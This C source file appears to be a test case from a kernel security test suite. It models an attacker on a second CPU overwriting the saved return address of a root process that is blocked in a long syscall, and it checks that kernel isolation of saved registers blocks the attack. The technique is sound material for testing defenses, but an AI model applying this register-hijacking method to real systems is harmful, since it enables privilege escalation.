// SPDX-License-Identifier: GPL-2.0-only
#include "registers.h"

ATTACK("shadow_stack", "running_registers",
       "exclusive_frames: access to a frame that the kernel does not map",
       "While a program of root is in a long call on the other processor, and has not left it "
       "since, the attacker writes another address over the one that it will return to.",
       "The registers of a program stand where no mapping but its own process's shows them, from "
       "the first instruction of the kernel to the last.",
       "Root's program returns from its call to wherever the attacker wants in its own memory.");

#define LONG_READ (8l << 20)

static bool control(void)
{
	return is_ordinary();
}

static _Noreturn void never_called(void)
{
	victim_is_beaten();
}

/* The address that it never calls is in its RBX. */
static bool fire(void)
{
	const uint64_t task = victim_task(own_task());
	uint64_t frame;

	(void)own_cpu(0);
	await(peek(peek(symbol("cpus") + 8) + member("cpu.current")) == task);
	frame = registers_of(task);
	while (!victim_has_ended())
		if (peek(frame + member("arch_frame.rbx")) == (uint64_t)never_called)
			poke(frame + member("arch_frame.rip"), (uint64_t)never_called);
	return false;
}

/* Reads random bytes: a loop in the kernel. */
static void victim(void)
{
	const long area = call6(__NR_mmap, 0, LONG_READ, PROT_READ | PROT_WRITE,
				MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	const long file = call3(__NR_open, (long)"/dev/urandom", O_RDONLY, 0);

	(void)own_cpu(1);
	victim_round();
	for (;;) {
		long result = __NR_read;

		__asm__ volatile("syscall"
				 : "+a"(result)
				 : "D"(file), "S"(area), "d"(LONG_READ), "b"(never_called)
				 : "rcx", "r11", "memory");
	}
}
